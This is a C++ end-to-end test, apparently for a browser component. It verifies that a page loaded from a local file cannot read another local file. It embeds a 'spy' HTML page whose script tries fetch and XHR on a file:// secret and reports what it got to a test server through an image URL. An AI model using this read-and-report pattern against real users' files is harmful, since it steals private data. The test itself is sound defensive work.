// Local files as the browser sees them: a page opened from a file must not read other files.

#include <gtest/gtest.h>

#include <fstream>

#include "support/end_to_end_test.h"

namespace kestrova::e2e {
namespace {

using namespace std::chrono_literals;

class LocalFilesTest : public EndToEndTest {};

TEST_F(LocalFilesTest, AFilePageCannotReadAnotherLocalFile) {
  const auto secret = scratch.Path() / "secret.txt";
  std::ofstream(secret) << "the secret\n";
  const auto spy = scratch.Path() / "spy.html";
  // Each attempt reports what it got to the test server through an image, which a page from a
  // file may load. "-" stands for nothing read.
  std::ofstream(spy) << "<!DOCTYPE html>\n<html><body><script>\n"
                        "function report(how, text) {\n"
                        "  new Image().src = '" << server.Url("/report") << "?how=' + how + '&got=' +\n"
                        "      encodeURIComponent(text === null || text === '' ? '-' : text.trim());\n"
                        "}\n"
                        "fetch('file://" << secret.string() << "').then(r => r.text())\n"
                        "    .then(t => report('fetch', t), () => report('fetch', null));\n"
                        "var xhr = new XMLHttpRequest();\n"
                        "try {\n"
                        "  xhr.open('GET', 'file://" << secret.string() << "', false);\n"
                        "  xhr.send();\n"
                        "  report('xhr', xhr.responseText);\n"
                        "} catch (e) { report('xhr', null); }\n"
                        "</script></body></html>\n";
  WritePlaylist(scratch.Path() / "list.txt", {"file://" + spy.string()});
  Launch({"/f=" + (scratch.Path() / "list.txt").string(), "/t=3"});
  ASSERT_TRUE(MainWindow());

  // Both reports come, so the page did load and run; neither carries the file's text.
  const auto reports = server.WaitForRequests({"/report"}, 2, 20s);
  ASSERT_EQ(reports.size(), 2u) << "the local page did not run; requests: " << Describe(server.Requests());
  for (const auto& report : reports) {
    EXPECT_EQ(report.target.find("secret"), std::string::npos) << report.target;
    EXPECT_NE(report.target.find("got=-"), std::string::npos) << report.target;
  }
  std::cout << "[ figures  ] " << Describe(reports) << "\n";
}

}  // namespace
}  // namespace kestrova::e2e
